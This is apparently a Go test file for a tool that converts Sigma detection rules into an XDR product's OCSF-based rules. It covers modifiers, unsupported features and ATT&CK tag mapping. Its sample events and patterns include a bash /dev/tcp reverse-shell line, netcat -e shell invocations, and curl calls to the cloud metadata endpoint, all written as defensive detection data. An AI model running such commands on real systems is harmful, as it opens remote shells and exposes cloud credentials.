package sigma

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/musubi-xdr/musubi/ocsf"
	"github.com/musubi-xdr/musubi/rules"
)

const head = `title: t
id: 00000000-0000-0000-0000-0000000000%02d
status: test
level: high
tags: [attack.execution, attack.t1059.004]
`

// eval converts a Sigma rule, then evaluates the compiled rule on events
// given as OCSF JSON.
func eval(t *testing.T, n int, logsource, detection string, events map[string]bool) {
	t.Helper()
	src := strings.Replace(head, "%02d", fmtN(n), 1) + logsource + detection
	res := Convert("t.yml", []byte(src), "DRL-1.1")
	if !res.OK() {
		t.Fatalf("rule %d: not converted: %v", n, res.Unsupported)
	}
	s, err := rules.LoadFiles([]rules.File{{Path: "t.yaml", Data: res.YAML}})
	if err != nil {
		t.Fatalf("rule %d: %v\n%s", n, err, res.YAML)
	}
	r := s.Rules()[0]
	for evJSON, want := range events {
		var ev ocsf.Event
		if err := json.Unmarshal([]byte(evJSON), &ev); err != nil {
			t.Fatal(err)
		}
		r.Tests = []rules.RuleTest{{Name: "x", Match: want, Event: ev}}
		if got := r.RunTests()[0]; !got.Pass {
			t.Errorf("rule %d on %s: got match=%v, want %v %s\ncondition: %s", n, evJSON, got.Got, want, got.Error, r.Condition)
		}
	}
}

func fmtN(n int) string {
	s := "0" + string(rune('0'+n%10))
	if n >= 10 {
		s = string(rune('0'+n/10)) + string(rune('0'+n%10))
	}
	return s
}

const ct = "logsource: {product: aws, service: cloudtrail}\n"
const proc = "logsource: {product: linux, category: process_creation}\n"
const netc = "logsource: {product: linux, category: network_connection}\n"

func ctEv(fields string) string {
	return `{"class_uid":6003,"metadata":{"log_name":"cloudtrail","uid":"u"}` + fields + `}`
}

func procEv(cmd, image string) string {
	return `{"class_uid":1007,"metadata":{"log_name":"agent","uid":"u"},"process":{"cmd_line":"` + cmd + `","file":{"path":"` + image + `"}}}`
}

func TestModifiers(t *testing.T) {
	// plain values are case-insensitive; a list is any of them (eventName
	// values also become sources.operations, which the index matches exactly)
	eval(t, 1, ct, `detection: {sel: {eventName: [StopLogging, DeleteTrail], eventSource: cloudtrail.amazonaws.com}, condition: sel}`, map[string]bool{
		ctEv(`,"api":{"operation":"StopLogging","service":{"name":"CloudTrail.amazonaws.com"}}`):  true,
		ctEv(`,"api":{"operation":"StartLogging","service":{"name":"cloudtrail.amazonaws.com"}}`): false,
	})
	// contains|all, startswith, endswith, wildcards
	eval(t, 2, proc, `detection: {sel: {CommandLine|contains|all: [curl, 169.254.169.254], Image|endswith: /curl}, condition: sel}`, map[string]bool{
		procEv("curl http://169.254.169.254/latest", "/usr/bin/curl"): true,
		procEv("curl http://example.com", "/usr/bin/curl"):            false,
		procEv("curl http://169.254.169.254/", "/usr/bin/wget"):       false,
	})
	eval(t, 3, proc, `detection: {sel: {Image|startswith: /tmp/, CommandLine: '*-c *'}, condition: sel}`, map[string]bool{
		procEv("sh -c id", "/tmp/sh"): true,
		procEv("sh -c id", "/bin/sh"): false,
		procEv("sh -x id", "/tmp/sh"): false,
	})
	// re with the i flag
	eval(t, 4, proc, `detection: {sel: {CommandLine|re|i: '^BASH -I'}, condition: sel}`, map[string]bool{
		procEv("bash -i >& /dev/tcp/1.2.3.4/4444", "/bin/bash"): true,
		procEv("zsh -i", "/bin/zsh"):                            false,
	})
	// cidr on a network connection; integer port
	eval(t, 5, netc, `detection: {sel: {DestinationIp|cidr: [169.254.0.0/16, 10.0.0.0/8], DestinationPort: 80}, condition: sel}`, map[string]bool{
		`{"class_uid":4001,"metadata":{"log_name":"agent","uid":"u"},"dst_endpoint":{"ip":"169.254.169.254","port":80}}`: true,
		`{"class_uid":4001,"metadata":{"log_name":"agent","uid":"u"},"dst_endpoint":{"ip":"8.8.8.8","port":80}}`:         false,
		`{"class_uid":4001,"metadata":{"log_name":"agent","uid":"u"},"dst_endpoint":{"ip":"10.1.2.3","port":443}}`:       false,
	})
	// base64 and base64offset|contains
	eval(t, 6, proc, `detection: {sel: {CommandLine|base64offset|contains: 'curl '}, condition: sel}`, map[string]bool{
		procEv("echo "+b64("xxcurl http://a")+" | base64 -d", "/bin/sh"): true,
		procEv("echo "+b64("xcurl http://a")+" | base64 -d", "/bin/sh"):  true,
		procEv("echo "+b64("curl http://a")+" | base64 -d", "/bin/sh"):   true,
		procEv("echo "+b64("wget http://a")+" | base64 -d", "/bin/sh"):   false,
	})
	eval(t, 7, proc, `detection: {sel: {CommandLine|base64: 'id'}, condition: sel}`, map[string]bool{
		procEv(b64("id"), "/bin/sh"): true,
		procEv("id", "/bin/sh"):      false,
	})
	// windash: -e, /e and dash variants
	eval(t, 8, proc, `detection: {sel: {CommandLine|windash|contains: ' -e '}, condition: sel}`, map[string]bool{
		procEv("nc /e sh", "/bin/nc"):      true,
		procEv("nc -e sh", "/bin/nc"):      true,
		procEv("nc \u2013e sh", "/bin/nc"): true,
		procEv("nc -l 80", "/bin/nc"):      false,
	})
	// exists, fieldref, null
	eval(t, 9, ct, `detection: {sel: {eventName: CreateAccessKey, errorCode|exists: false}, condition: sel}`, map[string]bool{
		ctEv(`,"api":{"operation":"CreateAccessKey"}`):                               true,
		ctEv(`,"api":{"operation":"CreateAccessKey","response":{"error":"Denied"}}`): false,
	})
	eval(t, 10, ct, `detection: {sel: {eventName: CreateAccessKey}, own: {userIdentity.arn|fieldref|endswith: requestParameters.userName}, condition: sel and not own}`, map[string]bool{
		ctEv(`,"api":{"operation":"CreateAccessKey","request":{"data":{"userName":"bob"}}},"actor":{"user":{"uid_alt":"arn:aws:iam::1:user/alice"}}`):   true,
		ctEv(`,"api":{"operation":"CreateAccessKey","request":{"data":{"userName":"alice"}}},"actor":{"user":{"uid_alt":"arn:aws:iam::1:user/alice"}}`): false,
	})
	// 1 of, all of, not, parentheses; requestParameters members
	eval(t, 11, ct, `detection:
  sel_op: {eventName: ModifyInstanceAttribute}
  attr_a: {requestParameters.attribute: userData}
  attr_b: {requestParameters.userData|exists: true}
  filter_ci: {userAgent|contains: terraform}
  condition: sel_op and (1 of attr_*) and not filter_ci
`, map[string]bool{
		ctEv(`,"api":{"operation":"ModifyInstanceAttribute","request":{"data":{"attribute":"userData"}}}`):                                               true,
		ctEv(`,"api":{"operation":"ModifyInstanceAttribute","request":{"data":{"userData":"IyEvYmluL3No"}}}`):                                            true,
		ctEv(`,"api":{"operation":"ModifyInstanceAttribute","request":{"data":{"attribute":"userData"}}},"http_request":{"user_agent":"Terraform/1.6"}`): false,
		ctEv(`,"api":{"operation":"ModifyInstanceAttribute","request":{"data":{"attribute":"instanceType"}}}`):                                           false,
	})
	eval(t, 12, ct, `detection: {a: {eventSource: iam.amazonaws.com}, b: {userAgent|contains: S3 Browser}, condition: all of them}`, map[string]bool{
		ctEv(`,"api":{"service":{"name":"iam.amazonaws.com"}},"http_request":{"user_agent":"S3 Browser 11.5"}`): true,
		ctEv(`,"api":{"service":{"name":"iam.amazonaws.com"}},"http_request":{"user_agent":"aws-cli/2"}`):       false,
	})
	// sourceIPAddress reads the address or the service name
	eval(t, 13, ct, `detection: {sel: {sourceIPAddress|cidr: 203.0.113.0/24}, condition: sel}`, map[string]bool{
		ctEv(`,"src_endpoint":{"ip":"203.0.113.9"}`):      true,
		ctEv(`,"src_endpoint":{"domain":"AWS Internal"}`): false,
	})
}

func TestUnsupportedIsReported(t *testing.T) {
	tests := []struct{ name, rule, want string }{
		{"windows logsource", "logsource: {product: windows, category: process_creation}\ndetection: {sel: {Image: x}, condition: sel}", "not one Musubi normalizes"},
		{"keywords", ct + "detection: {kw: [evil], condition: kw}", "keyword (full-text) search"},
		{"unknown field", ct + "detection: {sel: {foo.bar: x}, condition: sel}", "field foo.bar has no OCSF mapping"},
		{"aggregation", ct + "detection: {sel: {eventName: x}, condition: sel | count() > 5}\ntimeframe: 5m", "aggregations"},
		{"unknown modifier", ct + "detection: {sel: {eventName|utf16le: x}, condition: sel}", `modifier "utf16le"`},
		{"unknown selection", ct + "detection: {sel: {eventName: x}, condition: sel and other}", `unknown selection "other"`},
	}
	for i, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			src := strings.Replace(head, "%02d", fmtN(i), 1) + tt.rule + "\n"
			res := Convert("t.yml", []byte(src), "")
			if res.OK() {
				t.Fatalf("got converted, want unsupported %q", tt.want)
			}
			if !strings.Contains(strings.Join(res.Unsupported, "; "), tt.want) {
				t.Errorf("got %v, want one containing %q", res.Unsupported, tt.want)
			}
		})
	}
}

func TestTagsToAttack(t *testing.T) {
	tactics, techniques, notes := mapTags([]string{"attack.privilege-escalation", "attack.t1566.002", "attack.t1073", "attack.g0016", "cve.2021-1"})
	if strings.Join(tactics, ",") != "TA0001" || strings.Join(techniques, ",") != "T1566.002" {
		t.Errorf("got tactics %v techniques %v, want [TA0001] [T1566.002]", tactics, techniques)
	}
	if len(notes) != 3 { // T1073 unknown, TA0004 dropped, TA0001 added
		t.Errorf("got notes %q, want 3", notes)
	}
}

// TestTagsSplitTactics maps ATT&CK v19's Stealth and Defense Impairment,
// split from Defense Evasion, to TA0005 of the bundled v18 matrix; their
// v19 techniques are unknown to it and left out with a note.
func TestTagsSplitTactics(t *testing.T) {
	for _, tags := range [][]string{
		{"attack.defense-impairment", "attack.t1685"},
		{"attack.stealth"},
		{"attack.defense_impairment", "attack.stealth", "attack.t1562.008"},
	} {
		tactics, techniques, notes := mapTags(tags)
		if strings.Join(tactics, ",") != "TA0005" {
			t.Errorf("%v: got tactics %v, want [TA0005]", tags, tactics)
		}
		wantTech := ""
		if slices.Contains(tags, "attack.t1562.008") {
			wantTech = "T1562.008"
		}
		if strings.Join(techniques, ",") != wantTech {
			t.Errorf("%v: got techniques %v, want %q", tags, techniques, wantTech)
		}
		if !strings.Contains(strings.Join(notes, "; "), "ATT&CK v19 split TA0005") {
			t.Errorf("%v: got notes %q, want the split named", tags, notes)
		}
	}
}
